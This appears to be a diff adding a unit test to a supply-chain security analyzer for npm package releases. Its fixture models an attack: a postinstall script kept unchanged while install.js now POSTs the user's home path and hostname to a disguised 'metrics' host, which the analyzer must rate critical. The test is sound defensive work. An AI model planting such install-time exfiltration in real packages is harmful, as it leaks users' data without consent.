@@ -141,6 +141,47 @@ describe('releaseChanges', () => {
     });
   });
 
+  it('catches an install script kept word for word whose file now makes network requests', () => {
+    // The attacker's variation: the same `postinstall: node install.js`, a new install.js.
+    const scripts = { postinstall: 'node install.js' };
+    const before = manifest('2.0.0', { scripts });
+    const after = manifest('2.0.1', { scripts });
+    const old = analyzeSource({
+      'package.json': JSON.stringify({ name: 'demo', version: '2.0.0', scripts }),
+      'install.js': "console.log('thanks for installing');\n",
+    });
+    const now = analyzeSource({
+      'package.json': JSON.stringify({ name: 'demo', version: '2.0.1', scripts }),
+      'install.js': [
+        "const send = require('./lib/send');",
+        "send([process.env.HOME, require('os').hostname()].join('|'));",
+        '',
+      ].join('\n'),
+      'lib/send.js':
+        "const https = require('https');\nmodule.exports = (d) => https.request({ host: 'metrics.demo-tools.io', method: 'POST' }).end(d);\n",
+    });
+    const report = releaseChanges({
+      packument: packument(before, after),
+      version: after,
+      analysis: now,
+      stored: [
+        {
+          result: storedOf('2.0.0', old).result,
+          basis: { risk_input: old.risk_input, trust: { score: 80, reasons: [] } },
+        },
+      ],
+    });
+    expect(report.changes.items.map((i) => i.kind)).toContain('install_time_behaviour_added');
+    expect(report.policy).toMatchObject({
+      install_scripts_added: [],
+      install_time_added: 'network requests',
+      install_time_network: true,
+    });
+    const risk = assessRisk({ ...now.risk_input, release_changes: report.policy! });
+    expect(risk.risk_level).toBe('critical');
+    expect(risk.risk_reasons.join(' ')).toMatch(/gives its install-time code behaviour 2\.0\.0 did not have/);
+  });
+
   it('reports a changed install script, without calling it new install-time behaviour', () => {
     const before = manifest('1.0.0', { scripts: { install: 'node-gyp rebuild' } });
     const after = manifest('1.0.1', { scripts: { install: 'node-gyp rebuild --release' } });
